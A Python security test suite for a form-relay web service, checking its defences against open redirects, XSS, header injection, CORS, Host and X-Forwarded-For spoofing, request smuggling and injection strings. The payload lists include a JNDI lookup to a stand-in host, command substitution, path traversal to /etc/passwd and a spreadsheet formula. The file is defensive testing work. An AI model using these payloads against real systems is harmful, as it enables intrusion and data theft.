"""Attacks from the web: redirects, scripts, headers, origins, smuggling, spoofing, guessing.

Names' numbers are those of the catalogue of faults. Then the headers of every answer, and the order of
refusals. Everything goes over real sockets into a real server.
"""

import http.client
import itertools
import re
import secrets
import statistics
import time
import uuid
from collections.abc import Iterator
from typing import Any

import pytest

from tests.kit.client import Answer, NoAnswer, Raw, encoded, head, request
from tests.kit.processes import eventually
from tests.kit.relay import HOOK, NEWSLETTER, RelayProcess, config
from tests.kit.upstream import Arrival, Reaction, ScriptedUpstream, created, problem_json, status

HTML = {"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
FORM_TYPE = "application/x-www-form-urlencoded"
CAP = 256 * 1024
SITE, EVIL = "https://www.example.com", "https://evil.example"
FORM = NEWSLETTER | {"origins": [SITE], "recipient_limits": "none"}
SOURCES: dict[str, Any] = {
    "form": FORM,
    "anyones": FORM | {"origins": ["*"]},
    "thanked": FORM | {"thanks": f"{SITE}/thanks", "origins": ["*"]},
    "patient": FORM | {"wait": 8, "reply": ["id"]},
    "limited": FORM | {"client_limits": "2/hour"},
    "hook": HOOK | {"wait": 0},
    "off": FORM | {"enabled": False},
    "hook-off": HOOK | {"enabled": False, "wait": 0},
    "hook-limited": HOOK | {"wait": 0, "client_limits": "1/hour"},
    "off-limited": FORM | {"enabled": False, "client_limits": "1/hour"},
    "hook-off-limited": HOOK | {"enabled": False, "wait": 0, "client_limits": "1/hour"},
    "one": FORM | {"client_limits": "1/hour"},
    "echo": HOOK | {"handshake": {"kind": "echo", "query": "c", "token_query": "t"}},
}
WIDE = {"limits": "500/second; 100000/minute"}


def mood(arrival: Arrival) -> Reaction:
    """Upstream refuses those who once unsubscribed."""
    if str((arrival.json or {}).get("email", "")).startswith("unsubscribed"):
        return status(400, json=problem_json(400))
    return created()


@pytest.fixture(scope="module")
def upstream() -> Iterator[ScriptedUpstream]:
    with ScriptedUpstream(mood) as server:
        yield server


@pytest.fixture(scope="module")
def relay(upstream: ScriptedUpstream) -> Iterator[RelayProcess]:
    with RelayProcess(config(upstream.url, SOURCES, **WIDE)) as process:
        yield process


@pytest.fixture(scope="module")
def proxied(upstream: ScriptedUpstream) -> Iterator[RelayProcess]:
    """A relay that believes one proxy in front of it."""
    with RelayProcess(config(upstream.url, SOURCES, **WIDE), env={"RELAY_TRUSTED_PROXIES": "1"}) as process:
        yield process


@pytest.fixture(autouse=True)
def no_faults(relay: RelayProcess) -> Iterator[None]:
    seen = len(relay.output())
    yield
    new = relay.output()[seen:]
    assert "Traceback" not in new and "request.fault" not in new, new[-2000:]


@pytest.fixture
def unstored(relay: RelayProcess) -> Iterator[None]:
    """Nothing that the test does may store anything."""
    before = newest(relay)
    yield
    assert newest(relay) == before, "something was stored"


def newest(relay: RelayProcess) -> str | None:
    rows = relay.api("GET", "/api/submissions?limit=1").json["submissions"]
    return rows[0]["receipt"] if rows else None


def person(tag: str = "ada") -> str:
    return f"{tag}-{uuid.uuid4().hex[:12]}@example.com"


# --- 48: redirects ------------------------------------------------------------------------------------

EVIL_TARGETS = [
    "https://evil.example/",
    "//evil.example",
    "///evil.example",
    "https:evil.example",
    "https:/evil.example",
    "http:///evil.example",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "/\\evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
    "https://www.example.com@evil.example/",
    "https://www.example.com.evil.example/",
    "https://www.exаmple.com/",
    "%2f%2fevil.example",
    "/%09/evil.example",
    "https://evil.example\\@www.example.com",
    "\r\nLocation: https://evil.example",
    "?next=https://evil.example",
]
PARAMETERS = ["next", "_next", "redirect", "redirect_uri", "return", "url", "thanks", "_thanks", "continue"]


@pytest.mark.parametrize("target", EVIL_TARGETS)
@pytest.mark.parametrize("source", ["anyones", "thanked"])
def test_48_nothing_that_is_sent_decides_where_a_browser_goes(
    relay: RelayProcess, source: str, target: str
) -> None:
    fields = dict.fromkeys(PARAMETERS, target) | {"email": person()}
    query = encoded(dict.fromkeys(PARAMETERS, target)).decode()
    spoofed = {"X-Forwarded-Host": "evil.example", "Forwarded": "host=evil.example"}
    try:
        referer = {"Referer": target.encode("latin-1").decode("latin-1")} if "\r" not in target else {}
    except UnicodeEncodeError:
        referer = {}
    answer = request(
        relay.port,
        "POST",
        f"/submit/{source}?{query}",
        encoded(fields),
        HTML | spoofed | referer | {"Content-Type": FORM_TYPE, "Host": "evil.example"},
    )
    assert answer.status == 303
    location = answer.header("Location") or ""
    if source == "thanked":
        assert location == f"{SITE}/thanks"
    else:
        assert re.fullmatch(r"/receipts/[0-9a-f]{32}", location)


@pytest.mark.parametrize(
    "path", ["//evil.example/..", "//evil.example/%2f..", "/forms//form", "/forms/form/"]
)
def test_48_no_path_redirects_elsewhere(relay: RelayProcess, path: str) -> None:
    answer = request(relay.port, "GET", path, None, {"Host": "evil.example"})
    assert "evil.example" not in (answer.header("Location") or "") and answer.status in (200, 308, 404)


# --- 49: scripts --------------------------------------------------------------------------------------

PAYLOADS = [
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><svg onload=alert(1)>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "javascript:alert(1)//",
    '"-alert(1)-"',
]


def harmless(answer: Answer) -> None:
    """No payload is markup in this answer."""
    for mark in ("<script>alert", "<img src=x", "<svg onload", "'><", '"><s'):
        assert mark not in answer.text
    kind = answer.header("Content-Type") or ""
    assert kind.startswith(("text/html", "application/json", "application/problem+json", "text/plain"))
    assert answer.header("X-Content-Type-Options") == "nosniff"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_49_what_was_typed_comes_back_as_text(relay: RelayProcess, payload: str) -> None:
    fields = {
        "email": payload,
        "phone": payload,
        "first_name": payload,
        "last_name": payload,
        payload: payload,
    }
    page = relay.form(fields, "form", HTML)
    assert page.status == 422
    harmless(page)
    assert "49" not in re.findall(r'value="([^"]*)"', page.text)
    harmless(relay.form(fields, "form"))
    mistake = relay.form({payload: payload}, "form", HTML)
    harmless(relay.get(mistake.header("Location") or "/", HTML))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_49_paths_queries_and_headers_come_back_as_text(relay: RelayProcess, payload: str) -> None:
    quoted = encoded({"x": payload}).decode()[2:].replace("+", "%20")
    headers = HTML | {
        "User-Agent": payload,
        "Referer": payload,
        "Accept-Language": payload,
        "X-Request-ID": payload,
        "Cookie": payload,
    }
    for path in (
        f"/{quoted}",
        f"/submit/{quoted}",
        f"/receipts/{quoted}",
        f"/forms/{quoted}",
        f"/forms/form?{quoted}",
        f"/forms/form?email={quoted}",
        f"/readyz?{quoted}",
        f"/submit/echo?c={quoted}&t={relay.hook_secret}",
    ):
        answer = relay.get(path, headers)
        if path.startswith("/submit/echo"):
            assert (answer.header("Content-Type") or "").startswith("text/plain")
            assert answer.header("X-Content-Type-Options") == "nosniff"
        else:
            harmless(answer)
        assert payload not in str(answer.headers)


# --- 50: header injection -----------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["%0d%0aX-Injected:%201", "%0aX-Injected:%201", "%0d", "%E5%98%8A%E5%98%8D"])
def test_50_no_value_becomes_a_header(relay: RelayProcess, text: str) -> None:
    for path in (f"/forms/form?x={text}", f"/{text}", f"/submit/{text}", f"/receipts/{text}"):
        with Raw(relay.port) as raw:
            answer = raw.send(head("GET", path, HTML)).read(method="GET")
        assert answer.status in (200, 400, 404, 405) and answer.header("X-Injected") is None


@pytest.mark.usefixtures("unstored")
@pytest.mark.parametrize(
    "line",
    [
        b"Idempotency-Key: a\rX-Injected: 1",
        b"Idempotency-Key: a\x00b",
        b"Origin: https://www.example.com\r X-Injected: 1",
        b"Origin: https://www.example.com\x0bX",
        b"Referer: a\nb",
        b"X-Thing: a\r\n\tfolded",
    ],
)
def test_50_broken_header_lines_are_refused(relay: RelayProcess, line: bytes) -> None:
    body = encoded({"email": person()})
    start = head("POST", "/submit/form", {"Content-Type": FORM_TYPE, "Content-Length": str(len(body))})
    with Raw(relay.port) as raw:
        raw.send(start[:-2] + line + b"\r\n\r\n" + body)
        answer = raw.read()
    assert 400 <= answer.status < 500 and answer.header("X-Injected") is None


# --- 51: other sites ----------------------------------------------------------------------------------

FOREIGN = [
    EVIL,
    "http://www.example.com",
    "https://example.com",
    "https://www.example.com.evil.example",
    "https://evilwww.example.com",
    "https://www.example.com:8443",
    "https://www.example.com@evil.example",
    "https://www.example.com, https://evil.example",
    "file://",
    "*",
    "http://127.0.0.1",
    "",
]


def preflight(relay: RelayProcess, source: str, origin: str | None) -> Answer:
    headers = {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type"}
    return request(
        relay.port, "OPTIONS", f"/submit/{source}", None, headers | ({"Origin": origin} if origin else {})
    )


@pytest.mark.usefixtures("unstored")
@pytest.mark.parametrize(("source", "origin"), [("form", SITE), ("anyones", EVIL), ("anyones", SITE)])
def test_51_an_allowed_page_may_ask(relay: RelayProcess, source: str, origin: str) -> None:
    answer = preflight(relay, source, origin)
    assert answer.status == 204 and not answer.body
    assert answer.header("Access-Control-Allow-Origin") in (origin, "*" if source == "anyones" else origin)
    assert "POST" in (answer.header("Access-Control-Allow-Methods") or "")
    assert "content-type" in (answer.header("Access-Control-Allow-Headers") or "").lower()
    assert answer.header("Access-Control-Allow-Credentials") is None
    assert "Origin" in (answer.header("Vary") or "")


@pytest.mark.usefixtures("unstored")
@pytest.mark.parametrize("origin", [*FOREIGN, "null", None])
def test_51_a_foreign_page_may_not_ask(relay: RelayProcess, origin: str | None) -> None:
    answer = preflight(relay, "form", origin)
    assert answer.status == 403 and answer.header("Access-Control-Allow-Origin") is None
    assert preflight(relay, "hook", origin).header("Access-Control-Allow-Origin") is None


@pytest.mark.usefixtures("unstored")
@pytest.mark.parametrize("origin", [origin for origin in FOREIGN if origin])
@pytest.mark.parametrize("headers", [{}, HTML], ids=["JSON", "HTML"])
def test_51_a_foreign_page_may_not_post(relay: RelayProcess, origin: str, headers: dict[str, str]) -> None:
    answer = relay.form({"email": person()}, "form", headers | {"Origin": origin})
    assert answer.status == 403
    assert not [name for name, _ in answer.headers if name.lower().startswith("access-control-allow")]


@pytest.mark.parametrize("origin", [SITE, "null", None])
def test_51_allowed_and_nameless_pages_may_post(relay: RelayProcess, origin: str | None) -> None:
    answer = relay.form({"email": person()}, "form", {"Origin": origin} if origin else {})
    assert answer.status == 202
    assert answer.header("Access-Control-Allow-Origin") == (SITE if origin == SITE else None)
    assert answer.header("Access-Control-Allow-Credentials") is None
    refused = relay.form({"email": "x"}, "form", {"Origin": origin} if origin else {})
    assert refused.status == 422
    assert refused.header("Access-Control-Allow-Origin") == (SITE if origin == SITE else None)


def test_51_the_relays_own_pages_may_post(relay: RelayProcess) -> None:
    assert relay.form({"email": person()}, "form", {"Origin": relay.url}).status == 202
    other = relay.url.replace("http:", "https:")
    assert relay.form({"email": person()}, "form", {"Origin": other}).status == 403


def test_51_machines_are_not_asked_where_they_come_from(relay: RelayProcess) -> None:
    assert relay.hook({"email": person()}, headers={"Origin": EVIL}).status == 202
    for path in ("/api/status", "/receipts/" + "0" * 32, "/healthz", "/readyz"):
        answer = relay.get(path, {"Origin": SITE})
        assert answer.header("Access-Control-Allow-Origin") is None, path


# --- 52: cookies --------------------------------------------------------------------------------------


@pytest.mark.parametrize("cookie", ["session=1", "a=" + "x" * 4000, "=;;;=", '"\\', "email=eve@example.com"])
def test_52_cookies_are_neither_set_nor_read(relay: RelayProcess, cookie: str) -> None:
    with_cookie = relay.form({"email": "nonsense"}, "form", HTML | {"Cookie": cookie})
    without = relay.form({"email": "nonsense"}, "form", HTML)
    assert with_cookie.status == without.status == 422
    stamped = re.compile(rb'value="[0-9a-zA-Z.:=_-]{20,}"')  # says when a form was handed out
    assert stamped.sub(b"", with_cookie.body) == stamped.sub(b"", without.body)
    for answer in (
        with_cookie,
        relay.get("/forms/form", {"Cookie": cookie}),
        relay.form({"email": person()}),
    ):
        assert answer.header("Set-Cookie") is None
        assert "cookie" not in (answer.header("Vary") or "").lower()


# --- 53: the Host header ------------------------------------------------------------------------------


@pytest.mark.usefixtures("unstored")
@pytest.mark.parametrize(
    "lines",
    [
        b"",
        b"Host:\r\n",
        b"Host: a\r\nHost: b\r\n",
        b"Host: 127.0.0.1\r\nHost: 127.0.0.1\r\n",
        b"Host: a b\r\n",
        b"Host: a/b\r\n",
        b"Host: user@a\r\n",
        b"Host: <script>\r\n",
    ],
    ids=["absent", "empty", "two", "same twice", "blank", "slash", "userinfo", "markup"],
)
def test_53_a_host_that_is_none_is_refused(relay: RelayProcess, lines: bytes) -> None:
    body = encoded({"email": person()})
    start = b"POST /submit/form HTTP/1.1\r\nContent-Type: %s\r\nContent-Length: %d\r\n" % (
        FORM_TYPE.encode(),
        len(body),
    )
    with Raw(relay.port) as raw:
        answer = raw.send(start + lines + b"\r\n" + body).read()
    assert answer.status in (400, 421) and "<script>" not in answer.text


@pytest.mark.parametrize("host", ["evil.example", "evil.example:80", "127.0.0.1:1", "[::1]:8000"])
def test_53_no_link_is_built_from_the_host(relay: RelayProcess, host: str) -> None:
    sign_up = relay.form({"email": person()}, "form", HTML | {"Host": host})
    seen = [
        sign_up,
        relay.get(sign_up.header("Location") or "/", HTML | {"Host": host}),
        relay.get("/forms/form", HTML | {"Host": host}),
        relay.get("/nowhere", HTML | {"Host": host}),
        relay.form({"email": "x"}, "form", HTML | {"Host": host}),
        relay.form({"email": "x"}, "form", {"Host": host}),
    ]
    for answer in seen:
        assert answer.status in (200, 303, 400, 404, 421, 422)
        assert host not in str([h for h in answer.headers if h[0] != "Content-Security-Policy"])
        assert host not in answer.text


# --- 54, 31: who is counted ---------------------------------------------------------------------------

CLAIMS = [
    "203.0.113.7",
    "203.0.113.7, 198.51.100.2",
    ", ".join(f"203.0.113.{n}" for n in range(20)),
    "unknown",
    "fe80::1%eth0",
    "[2001:db8::1]:443",
    "203.0.113.7:8080",
    "999.1.1.1",
    ",,,",
    "\xff",
    "127.0.0.1",
    "a" * 4000,
]


def spoof(relay: RelayProcess, claim: str, source: str = "limited", **more: Any) -> int:
    return relay.form({"email": person()}, source, {"X-Forwarded-For": claim}, **more).status


def test_54_behind_an_unknown_proxy_nobody_is_counted_and_the_owner_is_told(relay: RelayProcess) -> None:
    for claim in CLAIMS:
        assert spoof(relay, claim, source_address="127.0.3.1") == 202, claim
    statuses = [
        relay.form({"email": person()}, "limited", source_address="127.0.3.1").status for _ in range(3)
    ]
    assert statuses == [202, 202, 429]
    warnings = relay.get("/readyz").json["warnings"]
    assert [text for text in warnings if "RELAY_TRUSTED_PROXIES" in text]
    assert sum("RELAY_TRUSTED_PROXIES" in line.raw for line in relay.log_lines()) == 1


def test_54_behind_one_proxy_only_what_the_proxy_says_counts(proxied: RelayProcess) -> None:
    for number, claim in enumerate(("", "1.2.3.4, ", "unknown, , ", ", ".join(["9.9.9.9"] * 20) + ", ")):
        last = f"203.0.113.{number}"
        statuses = [spoof(proxied, f"{claim}{last}") for _ in range(2)]
        statuses.append(spoof(proxied, f"8.8.{number}.8, {last}"))
        assert statuses == [202, 202, 429], claim
        line = [line.data for line in proxied.log_lines() if line.data and line.data.get("status") == 429][-1]
        assert line["client"] == last


def test_54_what_cannot_be_read_counts_as_the_proxy(proxied: RelayProcess) -> None:
    unreadable = ["unknown", "999.1.1.1", "\xff", "a" * 4000, "<b>", "x, y", "1.2.3.4, "]
    statuses = [spoof(proxied, claim, source_address="127.0.3.9") for claim in unreadable]
    assert statuses == [202, 202] + [429] * (len(unreadable) - 2)


@pytest.mark.parametrize("claims", [["2001:db8:5:6::1", "2001:db8:5:6:ffff::2", "2001:0DB8:5:6::abcd"]])
def test_31_a_whole_network_of_ipv6_is_one_client(proxied: RelayProcess, claims: list[str]) -> None:
    assert [spoof(proxied, claim) for claim in claims] == [202, 202, 429]
    assert spoof(proxied, "2001:db8:5:7::1") == 202
    mapped = ["::ffff:192.0.2.55", "192.0.2.55", "::ffff:c000:237"]
    assert [spoof(proxied, claim) for claim in mapped] == [202, 202, 429]


def test_31_a_zone_makes_no_new_client(proxied: RelayProcess) -> None:
    zones = [f"fe80::1%eth{n}" for n in range(3)]
    assert [spoof(proxied, claim) for claim in zones] == [202, 202, 429]


# --- 55, 56: what can be learnt -----------------------------------------------------------------------


def without_receipt(answer: Answer) -> tuple[Any, ...]:
    blank = answer.body.replace((answer.receipt or "?").encode(), b"RECEIPT")
    own = ("date", "x-request-id", "location")
    return answer.status, [h for h in answer.headers if h[0].lower() not in own], blank


@pytest.mark.parametrize("headers", [{}, HTML], ids=["JSON", "HTML"])
def test_55_new_and_unsubscribed_people_get_the_same_answer(
    relay: RelayProcess, headers: dict[str, str]
) -> None:
    seen: dict[str, list[float]] = {"ada": [], "unsubscribed": []}
    answers = []
    for tag in ["ada", "unsubscribed"] * 30:
        began = time.perf_counter()
        answers.append(relay.form({"email": person(tag)}, "form", headers))
        seen[tag].append(time.perf_counter() - began)
    assert len({repr(without_receipt(answer)) for answer in answers}) == 1
    new, old = (statistics.median(times) for times in seen.values())
    assert abs(new - old) < 0.01
    for answer, state in ((answers[-2], "delivered"), (answers[-1], "refused")):
        relay.wait_state(answer.receipt or "", state)
    pages = [relay.get(f"/receipts/{answer.receipt}", HTML) for answer in answers[-2:]]
    assert pages[0].body == pages[1].body
    states = [relay.get(f"/receipts/{answer.receipt}").json["state"] for answer in answers[-2:]]
    assert states == ["received", "received"]


@pytest.mark.parametrize("count", [1000, pytest.param(10_000, marks=pytest.mark.slow)])
def test_56_receipts_cannot_be_guessed(relay: RelayProcess, count: int) -> None:
    link = http.client.HTTPConnection("127.0.0.1", relay.port, timeout=10)
    for _ in range(count):
        link.request("GET", f"/receipts/{secrets.token_hex(16)}")
        answer = link.getresponse()
        answer.read()
        assert answer.status == 404
    link.close()


def test_56_a_receipt_shows_nobody(relay: RelayProcess) -> None:
    secret_name = f"Q{uuid.uuid4().hex}"
    email = person("private")
    answer = relay.form({"email": email, "phone": "0301234567", "first_name": secret_name}, "form")
    for headers in ({}, HTML):
        shown = relay.get(f"/receipts/{answer.receipt}", headers)
        assert shown.status == 200
        for text in (email, secret_name, "301234567"):
            assert text not in shown.text


# --- 57: other languages ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "Robert'); DROP TABLE deliveries;--",
        "'--",
        '" OR ""="',
        "{{7*7}}",
        "{{ config }}",
        "{% raw %}",
        "%s%n%x",
        "{0.__class__}",
        "${jndi:ldap://evil.example/a}",
        "$(touch /tmp/owned)",
        "`id`",
        "../../etc/passwd",
        "=cmd|' /C calc'!A0",
        "\\u0041",
        "&lt;b&gt;",
        "<?xml version='1.0'?>",
        "__proto__",
        "null",
    ],
)
def test_57_what_other_languages_would_run_is_just_text(
    relay: RelayProcess, upstream: ScriptedUpstream, text: str
) -> None:
    email = person()
    answer = relay.form({"email": email, "first_name": text}, "patient")
    assert answer.status == 201
    (call,) = [a for a in upstream.arrivals if a.profile_id == answer.json["profile"]["id"]]
    assert call.json == {"email": email, "full_name": text}


# --- 35: smuggling ------------------------------------------------------------------------------------

HIDDEN = b"POST /submit/anyones HTTP/1.1\r\nHost: x\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n%s"
SMUGGLING = {
    "length and chunked": b"Content-Length: {n}\r\nTransfer-Encoding: chunked\r\n",
    "chunked and length": b"Transfer-Encoding: chunked\r\nContent-Length: {n}\r\n",
    "two lengths": b"Content-Length: 0\r\nContent-Length: {n}\r\n",
    "lengths in a list": b"Content-Length: 0, {n}\r\n",
    "length with plus": b"Content-Length: +{n}\r\n",
    "length in hex": b"Content-Length: 0x{n}\r\n",
    "length with blank": b"Content-Length : {n}\r\n",
    "length with underscore": b"Content-Length: 1_0\r\n",
    "length in other digits": "Content-Length: ١٠\r\n".encode(),
    "negative length": b"Content-Length: -{n}\r\n",
    "empty length": b"Content-Length: \r\n",
    "xchunked": b"Transfer-Encoding: xchunked\r\n",
    "chunked twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    "chunked, identity": b"Transfer-Encoding: chunked, identity\r\n",
    "identity after": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
    "gzip, chunked": b"Transfer-Encoding: gzip, chunked\r\n",
    "tab before colon": b"Transfer-Encoding\t: chunked\r\n",
    "vertical tab": b"Transfer-Encoding: \x0bchunked\r\n",
    "quoted": b'Transfer-Encoding: "chunked"\r\n',
    "folded": b"Transfer-Encoding:\r\n chunked\r\n",
    "bare line feed": b"X: y\nTransfer-Encoding: chunked\r\n",
    "underscore": b"Transfer_Encoding: chunked\r\nContent-Length: 0\r\n",
}


@pytest.mark.parametrize("lines", SMUGGLING.values(), ids=SMUGGLING.keys())
def test_35_no_request_hides_another(relay: RelayProcess, lines: bytes) -> None:
    """What is ambiguous is refused and the connection closed, so that what follows is never a request."""
    hidden_email = person("hidden")
    content = encoded({"email": hidden_email})
    hidden = HIDDEN % (FORM_TYPE.encode(), len(content), content)
    body = b"0\r\n\r\n" + hidden
    start = head("POST", "/submit/anyones", {"Content-Type": FORM_TYPE})
    start = start[:-2] + lines.replace(b"{n}", b"%d" % len(body)) + b"\r\n"
    with Raw(relay.port) as raw:
        raw.send(start + body)
        seen = raw.read_all(1.5)
    statuses = [int(found) for found in re.findall(rb"HTTP/1\.1 (\d{3})", seen)]
    if lines.startswith(b"Transfer_Encoding"):  # a name like any other: two requests, honestly
        assert len(statuses) == 2
        return
    assert len(statuses) <= 1, statuses
    assert all(400 <= found < 500 for found in statuses)
    assert not relay.rows(False, contact=hidden_email)


def test_35_honest_pipelining_works(relay: RelayProcess) -> None:
    emails = [person() for _ in range(3)]
    with Raw(relay.port) as raw:
        for email in emails:
            content = encoded({"email": email})
            raw.send(HIDDEN % (FORM_TYPE.encode(), len(content), content))
        answers = [raw.read() for _ in emails]
    assert [answer.status for answer in answers] == [202] * 3
    assert len({answer.receipt for answer in answers}) == 3


def test_35_an_unread_body_is_no_request(relay: RelayProcess) -> None:
    """A refusal before the body closes the connection: the body is not taken for what comes next."""
    hidden_email = person("hidden")
    content = encoded({"email": hidden_email})
    hidden = HIDDEN % (FORM_TYPE.encode(), len(content), content)
    for path, kind in (
        ("/submit/nobody", FORM_TYPE),
        ("/submit/anyones", "text/plain"),
        ("/nowhere", FORM_TYPE),
    ):
        with Raw(relay.port) as raw:
            raw.send(head("POST", path, {"Content-Type": kind, "Content-Length": str(len(hidden))}) + hidden)
            seen = raw.read_all(1.5)
        assert seen.count(b"HTTP/1.1 ") == 1, (path, seen)
    assert not relay.rows(False, contact=hidden_email)


# --- the headers of every answer ----------------------------------------------------------------------

EVERYWHERE: dict[str, tuple[str, str, dict[str, str], bytes | None, int]] = {
    "front page": ("GET", "/", {}, None, 404),
    "hosted form": ("GET", "/forms/form", {}, None, 200),
    "hosted form of nobody": ("GET", "/forms/nobody", {}, None, 404),
    "hosted form of a hook": ("GET", "/forms/hook", {}, None, 404),
    "unknown receipt": ("GET", "/receipts/" + "0" * 32, {}, None, 404),
    "nowhere": ("GET", "/nowhere", {}, None, 404),
    "wrong method": ("GET", "/submit/form", {}, None, 405),
    "wrong method elsewhere": ("DELETE", "/healthz", {}, None, 405),
    "unknown source": ("POST", "/submit/nobody", {"Content-Type": FORM_TYPE}, b"", 404),
    "switched off": ("POST", "/submit/off", {"Content-Type": FORM_TYPE}, b"email=a@example.com", 503),
    "foreign": ("POST", "/submit/form", {"Content-Type": FORM_TYPE, "Origin": EVIL}, b"x=1", 403),
    "too large": ("POST", "/submit/form", {"Content-Type": FORM_TYPE}, b"x" * (CAP + 1), 413),
    "too many": ("POST", "/submit/form", {"Content-Type": FORM_TYPE}, b"x=1&" * 300, 413),
    "wrong type": ("POST", "/submit/form", {"Content-Type": "text/plain"}, b"x", 415),
    "malformed": ("POST", "/submit/form", {"Content-Type": FORM_TYPE}, b"x=%", 400),
    "unusable": ("POST", "/submit/form", {"Content-Type": FORM_TYPE}, b"email=x", 422),
    "empty": ("POST", "/submit/form", {"Content-Type": FORM_TYPE}, b"", 422),
    "unproven": ("POST", "/submit/hook", {"Content-Type": FORM_TYPE}, b"email=x", 401),
    "health": ("GET", "/healthz", {}, None, 200),
    "readiness": ("GET", "/readyz", {}, None, 200),
    "metrics": ("GET", "/metrics", {}, None, 401),
    "operator's API": ("GET", "/api/status", {}, None, 401),
    "operator's API, nowhere": ("GET", "/api/nowhere", {}, None, 404),
    "preflight": ("OPTIONS", "/submit/form", {"Origin": SITE}, None, 204),
    "preflight, foreign": ("OPTIONS", "/submit/form", {"Origin": EVIL}, None, 403),
    "handshake": ("GET", "/submit/echo?c=1&t=2", {}, None, 401),
}


def check_headers(answer: Answer) -> None:
    names = [name.lower() for name, _ in answer.headers]
    assert len(names) == len(set(names)), "a header is there twice"
    assert re.fullmatch(r"[0-9a-f-]{16,36}", answer.header("X-Request-ID") or "")
    cache = {part.strip() for part in (answer.header("Cache-Control") or "").split(",")}
    assert {"no-store", "no-transform"} <= cache
    assert answer.header("X-Content-Type-Options") == "nosniff"
    assert answer.header("Referrer-Policy") == "same-origin"
    policy = answer.header("Content-Security-Policy") or ""
    assert "frame-ancestors 'none'" in policy and "unsafe" not in policy and "*" not in policy
    assert "default-src" in policy and "base-uri" in policy
    assert answer.header("Set-Cookie") is None
    assert not re.search(r"\d", answer.header("Server") or "")
    assert "<script>" not in answer.text and "style=" not in answer.text and "<style" not in answer.text
    assert not re.search(r"\son[a-z]+=", answer.text)


@pytest.mark.parametrize("accept", [{}, HTML], ids=["JSON", "HTML"])
@pytest.mark.parametrize("name", EVERYWHERE)
def test_49_every_answer_has_its_headers(relay: RelayProcess, name: str, accept: dict[str, str]) -> None:
    method, path, headers, body, expected = EVERYWHERE[name]
    answer = request(relay.port, method, path, body, accept | headers | {"X-Request-ID": "mine"})
    if name == "metrics":
        assert answer.status in (401, 404)
    else:
        assert answer.status == expected, answer.text[:300]
    check_headers(answer)
    if expected in (401, 403, 404, 405, 413, 415, 503, 400, 422):
        kind = answer.header("Content-Type") or ""
        is_page = bool(accept) and name not in ("unproven", "metrics", "operator's API")
        assert kind.startswith("text/html" if is_page else "application/problem+json"), kind
        if not is_page:
            assert answer.json["status"] == answer.status and answer.json["title"] and answer.json["type"]
    if answer.status == 503:
        assert (answer.header("Retry-After") or "").isdigit()
    if answer.status == 405:
        assert answer.header("Allow")


@pytest.mark.parametrize("accept", [{}, HTML], ids=["JSON", "HTML"])
def test_49_good_answers_and_limits_have_their_headers_too(
    relay: RelayProcess, accept: dict[str, str]
) -> None:
    mine = {"source_address": "127.0.4.1" if accept else "127.0.4.2"}
    answers = [relay.form({"email": person()}, "limited", accept, **mine) for _ in range(3)]
    assert [answer.status for answer in answers] == [303 if accept else 202] * 2 + [429]
    receipt = relay.get(f"/receipts/{answers[0].receipt}", accept)
    for answer in [*answers, receipt]:
        check_headers(answer)
    assert len({answer.header("X-Request-ID") for answer in answers}) == 3


UNREADABLE = {
    "no version": (b"GET /?canary-mark\r\n\r\n", 400),
    "version": (b"GET /?canary-mark HTTP/9.9\r\nHost: x\r\n\r\n", 400),
    "method": (b"canary-mark / HTTP/1.1\r\nHost: x\r\n\r\n", 400),
    "header": (b"GET / HTTP/1.1\r\nHost: x\r\nbad canary-mark: 1\r\n\r\n", 400),
    "coding": (b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: canary-mark\r\n\r\n0\r\n\r\n", 400),
    "long line": (b"GET /canary-mark" + b"x" * 9000 + b" HTTP/1.1\r\nHost: x\r\n\r\n", 414),
    "long header": (b"GET / HTTP/1.1\r\nHost: x\r\nX: canary-mark" + b"x" * 9000 + b"\r\n\r\n", 431),
    "many headers": (b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X: canary-mark\r\n" * 200 + b"\r\n", 431),
    "expectation": (b"POST / HTTP/1.1\r\nHost: x\r\nExpect: canary-mark\r\n\r\n", 417),
}


@pytest.mark.parametrize(("sent", "expected"), UNREADABLE.values(), ids=UNREADABLE.keys())
def test_49_what_is_no_request_is_answered_in_our_own_words(
    relay: RelayProcess, sent: bytes, expected: int
) -> None:
    seen = len(relay.output())
    with Raw(relay.port) as raw:
        answer = raw.send(sent).read()
        assert raw.closed(5)
    assert answer.status == expected and answer.json["status"] == expected
    check_headers(answer)
    assert answer.header("Content-Type") == "application/problem+json"
    assert "canary" not in answer.text and "canary" not in relay.output()[seen:]


def test_a_request_is_found_in_the_log_by_its_id(relay: RelayProcess) -> None:
    answer = relay.form({"email": person()}, "form")
    known = answer.header("X-Request-ID") or "?"
    lines = eventually(lambda: [line.raw for line in relay.log_lines() if known in line.raw], 5, "the log")
    assert answer.receipt and answer.receipt in lines[0]


# --- the order of refusals ----------------------------------------------------------------------------

ORDER = [404, 405, 503, 403, 411, 413, 415, 401, 400, 429, 422]
IMPOSSIBLE = {(403, 401), (411, 413)}  # forms have no proof; what has no length is not too long
PAIRS = [pair for pair in itertools.combinations(ORDER, 2) if pair not in IMPOSSIBLE]
HASTY = "127.0.6.6"  # has used up its limits


def deserving(relay: RelayProcess, faults: tuple[int, ...]) -> Answer:
    """The answer to a request with these faults and no other."""
    is_hook = 401 in faults
    source = "-".join(
        part
        for part, wanted in [
            ("hook", is_hook),
            ("off", 503 in faults),
            ("limited", 429 in faults and (is_hook or 503 in faults)),
        ]
        if wanted
    ) or ("one" if 429 in faults else "form")
    path = "/submit/nobody" if 404 in faults else f"/submit/{source}"
    body = b'{"email": "%s"}' % (b"nonsense" if 422 in faults else person().encode())
    if 400 in faults:
        body += b"}"
    headers = {"Content-Type": "text/plain" if 415 in faults else "application/json"}
    headers["Origin"] = EVIL if 403 in faults else SITE
